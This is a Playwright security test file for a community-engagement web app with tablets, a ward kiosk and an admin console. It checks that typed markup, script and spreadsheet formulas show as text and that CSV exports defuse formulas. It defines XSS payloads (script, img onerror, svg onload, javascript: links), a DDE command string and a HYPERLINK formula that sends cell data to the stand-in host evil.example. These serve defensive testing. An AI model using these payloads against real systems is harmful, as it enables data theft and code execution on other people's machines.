import { readFile } from 'node:fs/promises';
import { expect, test, type BrowserContext, type Download, type Page } from '@playwright/test';
import Papa from 'papaparse';
import { SIGN_UP_SCHEMA_VERSION } from '../../src/shared/signup/signup-rules';
import { makeSignUp } from '../fixtures/signup.factory';
import { makeSurveyResponse } from '../fixtures/survey.factory';
import { AdminConsole } from './pages/admin.page';
import { expectNoAxeViolations } from './pages/axe';
import { KioskPage } from './pages/kiosk.page';
import { AdminApi, SyncPage, adminCli, ensureAdmin } from './pages/sync.page';
import { WorkshopPage } from './pages/workshop.page';

// A step that cannot happen says so in seconds, not at the end of the test's five minutes.
test.use({ actionTimeout: 20_000 });

/*
 * A participant (or anyone at a kiosk) types markup, script and spreadsheet formulas; a
 * tablet sends them. Every screen that shows them, on the tablet and in the console, must show
 * the words as typed and run nothing; every export must keep the words and make formulas text.
 * Three locks are checked on each screen: the text is there literally, no injected element
 * exists, and the page recorded no Content-Security-Policy violation (which is what an
 * injected handler would cause even if the policy stopped it).
 */

const RUN = '__pwned';
const SCRIPT = `<script>window.${RUN}=1</script>`;
const IMG = `<img src=x onerror="window.${RUN}=1">`;
const SVG = `"><svg onload="window.${RUN}=1">`;
const LINK = `<a href="javascript:window.${RUN}=1">Open the minutes</a>`;
const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")';
const DDE = "@SUM(1+1)*cmd|' /C calc'!A0";

const NOTES = [SCRIPT, IMG, SVG, LINK, FORMULA, DDE, `javascript:window.${RUN}=1`];
const EVENT_TITLE = `Forum ${IMG} night`;
const PLACE = '=HYPERLINK("https://evil.example","Town hall")';
const THEME = `<b onmouseover="window.${RUN}=1">Our own theme</b>`;
const KIOSK_PLACE = `Ward 7 ${SCRIPT}`;
const KIOSK_ANSWER = `=HYPERLINK("https://evil.example","Kiosk") ${IMG}`;
const API_PLACE = `Day unit ${SVG}`;
const API_ANSWER = `-1+1 ${LINK} <svg onload="window.${RUN}=1">`;
const SIGN_UP = {
  name: `Sam ${SCRIPT}`,
  email: `"><svg/onload=window.${RUN}=1>@evil.example`,
  address: `${IMG} 1 High Street`,
  supportOther: `${SVG} a quiet room`,
  interests: ['=HYPERLINK("https://evil.example","Interests")', LINK],
};
const YOU_SAID = `You said ${IMG} ${SCRIPT}`;

/** What must not exist on any screen: what the payloads would make if parsed as markup. */
const INJECTED = [
  'img[src="x"]',
  'svg[onload]',
  'b[onmouseover]',
  'script:not([src])',
  'a[href^="javascript:" i]',
  '[onerror]',
  '[onload]',
].join(', ');

/** Records what a page was stopped from doing, and every dialog (`alert` included). */
async function watch(context: BrowserContext): Promise<string[]> {
  await context.addInitScript(() => {
    const w = window as unknown as { __cspViolations: string[] };
    w.__cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      w.__cspViolations.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}`);
    });
  });
  const dialogs: string[] = [];
  context.on('page', (page) => {
    page.on('dialog', (dialog) => {
      if (dialog.type() === 'beforeunload') return void dialog.accept();
      dialogs.push(`${dialog.type()}: ${dialog.message()}`);
      return void dialog.dismiss();
    });
  });
  return dialogs;
}

/** The screen shows each text literally, nothing was injected or ran, and it passes axe. */
async function expectShownAsText(page: Page, texts: readonly string[]): Promise<void> {
  for (const text of texts) {
    await expect(page.getByText(text).filter({ visible: true }).first(), text).toBeVisible();
  }
  await expectNothingRan(page);
  await expectNoAxeViolations(page);
}

async function expectNothingRan(page: Page): Promise<void> {
  expect(await page.locator(INJECTED).count()).toBe(0);
  const seen = await page.evaluate(() => {
    const w = window as unknown as Record<string, unknown>;
    return { ran: w.__pwned, violations: w.__cspViolations };
  });
  expect(seen.ran).toBeUndefined();
  expect(seen.violations).toEqual([]);
}

async function downloaded(page: Page, click: () => Promise<void>): Promise<string> {
  const download: Promise<Download> = page.waitForEvent('download');
  await click();
  return readFile(await (await download).path(), 'utf8');
}

/** A CSV export as rows of named cells, after checking it opens as UTF-8 in Excel. */
function csvRows(text: string): Record<string, string>[] {
  expect(text.startsWith('\uFEFF')).toBe(true);
  return Papa.parse<Record<string, string>>(text.slice(1), { header: true, skipEmptyLines: true })
    .data;
}

/** What a spreadsheet cell must hold: formulas made text with a leading `'`, the rest as is. */
const asCell = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);

test('markup, script and formulas typed into notes, answers and sign-ups show as text on every screen and export, and nothing runs', async ({
  browser,
  request,
}) => {
  test.setTimeout(300_000);
  ensureAdmin();
  const api = new AdminApi(request);
  await api.login();

  // The page the server sends has no inline script, handler or style to allow.
  const shell = await request.get('/');
  const html = await shell.text();
  expect(html).toMatch(/<script type="module" crossorigin src="\/assets\/[^"]+\.js"><\/script>/);
  expect(html).not.toMatch(/<script(?![^>]*\ssrc=)[^>]*>/i);
  expect(html).not.toMatch(/\son[a-z]+\s*=|\sstyle\s*=|<style|javascript:/i);
  expect(shell.headers()['content-security-policy']).not.toContain('unsafe-');

  // 1. On the tablet: an event with a theme of its own, and the notes, typed as said.
  const tabletContext = await browser.newContext();
  const tabletDialogs = await watch(tabletContext);
  const tablet = await tabletContext.newPage();
  await new SyncPage(tablet).enrol(
    adminCli('enrolment-code').split('\n')[0]!.trim(),
    'Forum tablet',
  );
  const workshop = new WorkshopPage(tablet);
  await tablet.goto('/#/');
  await tablet.getByRole('link', { name: 'New event' }).click();
  await tablet.getByLabel('Event name').fill(EVENT_TITLE);
  await tablet.getByLabel('Place', { exact: true }).fill(PLACE);
  await tablet.getByRole('button', { name: 'Add a theme' }).click();
  await tablet.getByRole('textbox', { name: 'Name of theme 8' }).fill(THEME);
  await tablet.getByRole('button', { name: 'Save event' }).click();
  await workshop.noteBox.waitFor();
  const eventId = /#\/events\/([0-9a-f-]{36})/.exec(tablet.url())?.[1];
  expect(eventId).toBeDefined();
  await workshop.choose(THEME, 1);
  // Each waits until the note is listed, found by its literal text.
  for (const note of NOTES) await workshop.addNote(note);
  await expectShownAsText(tablet, [...NOTES, EVENT_TITLE]);

  await workshop.open('Board');
  await expect(tablet.getByRole('row', { name: new RegExp(`^${escape(THEME)}`) })).toBeVisible();
  await expectShownAsText(tablet, [EVENT_TITLE, THEME]);

  await workshop.open('What we heard');
  await expect(tablet.getByRole('heading', { name: 'This is what we heard' })).toBeVisible();
  await expectShownAsText(tablet, [...NOTES, EVENT_TITLE, THEME]);
  const playbackCsv = csvRows(
    await downloaded(tablet, () => tablet.getByRole('button', { name: 'Download CSV' }).click()),
  );
  expectEventCsv(playbackCsv);
  const playbackJson = JSON.parse(
    await downloaded(tablet, () => tablet.getByRole('button', { name: 'Download JSON' }).click()),
  ) as { event: { title: string; place: string }; notes: { text: string }[] };
  expect(playbackJson.event).toMatchObject({ title: EVENT_TITLE, place: PLACE });
  expect(playbackJson.notes.map((n) => n.text).sort()).toEqual([...NOTES].sort());

  await tablet.goto('/#/');
  await expectShownAsText(tablet, [EVENT_TITLE]);

  // 2. The same tablet as a ward kiosk: a written answer, checked before it is sent.
  const kiosk = new KioskPage(tablet);
  await kiosk.setUp('fft', KIOSK_PLACE, '97531864');
  await kiosk.start.click();
  await kiosk.answerFft('Poor', KIOSK_ANSWER);
  await kiosk.next();
  await tablet.getByRole('radio', { name: 'I answered on my own' }).check();
  await kiosk.next();
  await expect(tablet.getByRole('heading', { name: 'Check your answers' })).toBeVisible();
  await expectShownAsText(tablet, [KIOSK_ANSWER]);
  await tablet.getByRole('button', { name: 'Send my answers' }).click();
  // The thank-you invites the person to get involved; this one does not.
  await tablet.getByRole('button', { name: 'No thanks, finish' }).click();
  await expect(tablet.getByRole('heading', { name: 'Thank you' })).toBeVisible();
  await tablet.getByRole('button', { name: 'Done' }).click();
  await kiosk.expectWelcome();

  // 3. Another tablet sends an answer and a sign-up straight through the device API.
  const enrolled = await request.post('/api/v1/devices/enrol', {
    data: { code: adminCli('enrolment-code').split('\n')[0]!.trim(), name: 'Desk tablet' },
  });
  const { token } = (await enrolled.json()) as { token: string };
  const now = new Date().toISOString();
  const response = makeSurveyResponse({
    surveyId: 'fft',
    surveyVersion: 1,
    createdAt: now,
    updatedAt: now,
    location: API_PLACE,
    answers: [
      { questionId: 'fft', choice: 'poor' },
      { questionId: 'fft-why', text: API_ANSWER },
    ],
  });
  const signUp = makeSignUp({
    ...SIGN_UP,
    postcode: 'LS1 4AB',
    preferredContact: 'post',
    support: ['other'],
  });
  const pushed = await request.post('/api/v1/sync/push', {
    headers: { Authorization: `Bearer ${token}` },
    data: {
      records: [
        { id: response.id, kind: 'survey-response', schemaVersion: 1, data: response },
        { id: signUp.id, kind: 'sign-up', schemaVersion: SIGN_UP_SCHEMA_VERSION, data: signUp },
      ],
    },
  });
  expect(pushed.ok()).toBe(true);
  expect(
    ((await pushed.json()) as { results: { status: string }[] }).results.map((r) => r.status),
  ).toEqual(['accepted', 'accepted']);

  // The server has the tablet's notes and its kiosk answer, stored as typed.
  await expect
    .poll(async () => (await api.records('workshop-note', eventId)).length, { timeout: 30_000 })
    .toBe(NOTES.length);
  await expect
    .poll(
      async () =>
        (await api.records('survey-response'))
          .map((r) => r.data as { location?: string; answers: { text?: string }[] })
          .filter((r) => r.location === KIOSK_PLACE)
          .flatMap((r) => r.answers.map((a) => a.text).filter(Boolean)),
      { timeout: 30_000 },
    )
    .toEqual([KIOSK_ANSWER]);

  // 4. The admin console, screen by screen.
  const adminContext = await browser.newContext();
  const adminDialogs = await watch(adminContext);
  const lead = await adminContext.newPage();
  const consolePage = new AdminConsole(lead);
  await consolePage.signIn();

  await consolePage.go('/events');
  await expect(lead.getByRole('link', { name: EVENT_TITLE, exact: true })).toBeVisible();
  await expectShownAsText(lead, [EVENT_TITLE, PLACE]);

  await consolePage.go(`/events/${eventId}`);
  await expectShownAsText(lead, [...NOTES, EVENT_TITLE, THEME]);
  expectEventCsv(
    csvRows(
      await downloaded(lead, () => lead.getByRole('button', { name: 'Download CSV' }).click()),
    ),
  );
  const heardJson = JSON.parse(
    await downloaded(lead, () => lead.getByRole('button', { name: 'Download JSON' }).click()),
  ) as { event: { title: string }; notes: { text: string }[] };
  expect(heardJson.event.title).toBe(EVENT_TITLE);
  expect(heardJson.notes.map((n) => n.text).sort()).toEqual([...NOTES].sort());

  await consolePage.go('/surveys/fft/results');
  await expect(lead.getByRole('heading', { name: /^Results: / })).toBeVisible();
  await expectShownAsText(lead, [KIOSK_ANSWER, API_ANSWER, KIOSK_PLACE, API_PLACE]);
  const responses = csvRows(
    await downloaded(lead, () =>
      lead.getByRole('link', { name: 'Download the responses (CSV)' }).click(),
    ),
  );
  const byPlace = new Map(responses.map((r) => [r['Location'], r]));
  const why = (place: string) => byPlace.get(place)?.['Please tell us why you gave that answer.'];
  expect(why(KIOSK_PLACE)).toBe(asCell(KIOSK_ANSWER));
  expect(why(API_PLACE)).toBe(asCell(API_ANSWER));
  expect(why(KIOSK_PLACE)!.startsWith("'=")).toBe(true);
  expect(why(API_PLACE)!.startsWith("'-")).toBe(true);

  await consolePage.go('/sign-ups');
  await lead.getByText(`More about ${SIGN_UP.name}`).click();
  await expectShownAsText(lead, [
    SIGN_UP.name,
    SIGN_UP.email,
    SIGN_UP.address,
    SIGN_UP.supportOther,
    ...SIGN_UP.interests,
  ]);
  const signUps = csvRows(
    await downloaded(lead, () =>
      lead.getByRole('button', { name: 'Download all sign-ups (CSV)' }).click(),
    ),
  );
  const row = signUps.find((r) => r['Reference'] === signUp.id);
  expect(row).toMatchObject({
    Name: SIGN_UP.name,
    Email: SIGN_UP.email,
    Address: SIGN_UP.address,
    'Other support': SIGN_UP.supportOther,
    Interests: asCell(SIGN_UP.interests.join('; ')),
  });
  expect(row!['Interests']!.startsWith("'=")).toBe(true);

  // The outcome editor offers the notes and the written answers as evidence, as text.
  await consolePage.go(`/outcomes/new?event=${eventId}&survey=fft`);
  await expect(lead.getByRole('checkbox', { name: SCRIPT, exact: true })).toBeVisible();
  await expectShownAsText(lead, [...NOTES, KIOSK_ANSWER, API_ANSWER, THEME]);
  await lead.getByRole('checkbox', { name: SCRIPT, exact: true }).check();
  await lead.getByRole('checkbox', { name: IMG, exact: true }).check();
  await lead.getByLabel('You said…', { exact: true }).fill(YOU_SAID);
  await lead.getByLabel('…so we did', { exact: true }).fill('We read every note out loud.');
  await lead.getByRole('button', { name: 'Save', exact: true }).click();
  await expect(lead.getByText('Saved as a draft.')).toBeVisible();
  await expectShownAsText(lead, [SCRIPT, IMG]);
  await lead.getByRole('button', { name: 'Publish to tablets' }).click();
  await expect(lead.getByText('Published. Tablets show it after their next sync.')).toBeVisible();
  await consolePage.go('/outcomes');
  await expectShownAsText(lead, [YOU_SAID]);
  await consolePage.go(`/events/${eventId}/you-said-we-did`);
  await expectShownAsText(lead, [YOU_SAID, EVENT_TITLE]);

  // 5. The kiosk's welcome screen shows it to the next person who walks up, as text.
  await tabletContext.setOffline(true);
  await tabletContext.setOffline(false);
  await expect(tablet.getByText(YOU_SAID)).toBeVisible({ timeout: 30_000 });
  await kiosk.expectWelcome();
  await expectNothingRan(tablet);

  // 6. The screens not visited above run under the policy too, with nothing blocked.
  for (const path of [
    '/surveys',
    '/surveys/new',
    '/events/new',
    '/tablets',
    '/reach',
    '/account',
  ]) {
    await consolePage.go(path);
    await expect(lead.locator('main h1')).toBeVisible();
    if (path === '/surveys/new')
      await lead.getByRole('button', { name: 'Add: Friends and Family Test' }).click();
    if (path === '/tablets') {
      await lead.getByRole('button', { name: 'Make an enrolment code' }).click();
      await expect(lead.getByRole('img', { name: /^QR code to enrol a tablet/ })).toBeVisible();
    }
    await expectNothingRan(lead);
  }
  const freshContext = await browser.newContext();
  const freshDialogs = await watch(freshContext);
  const fresh = await freshContext.newPage();
  for (const path of [
    '/',
    '/surveys',
    '/sync',
    '/get-involved',
    '/surveys/tell-us-what-you-think',
  ]) {
    await fresh.goto(`/#${path}`);
    await expect(fresh.locator('main h1, main h2').first()).toBeVisible();
    await expectNothingRan(fresh);
  }

  expect(tabletDialogs).toEqual([]);
  expect(adminDialogs).toEqual([]);
  expect(freshDialogs).toEqual([]);
  await tabletContext.close();
  await adminContext.close();
  await freshContext.close();
});

/** The playback and "what we heard" CSV: the words intact, the formulas made text. */
function expectEventCsv(rows: Record<string, string>[]): void {
  expect(rows.map((r) => r['Note']).sort()).toEqual(NOTES.map(asCell).sort());
  for (const row of rows) {
    expect(row['Event']).toBe(EVENT_TITLE);
    expect(row['Place']).toBe(asCell(PLACE));
    expect(row['Theme']).toBe(THEME);
  }
  expect(rows.find((r) => r['Note']!.includes('HYPERLINK'))!['Note']).toBe(`'${FORMULA}`);
  expect(rows.find((r) => r['Note']!.includes('SUM'))!['Note']).toBe(`'${DDE}`);
}

function escape(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
